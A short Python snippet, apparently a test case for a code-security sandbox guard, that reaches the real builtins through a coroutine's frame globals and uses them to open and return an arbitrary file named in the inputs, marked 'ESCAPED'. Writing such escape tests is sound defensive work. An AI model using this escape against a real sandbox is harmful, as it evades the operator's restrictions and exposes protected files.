# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the frame of a coroutine
async def nothing():
    pass
waiting = nothing()
names = waiting.cr_frame.f_globals
waiting.close()
return "ESCAPED " + names["__builtins__"]["open"](inputs["file"]).read()
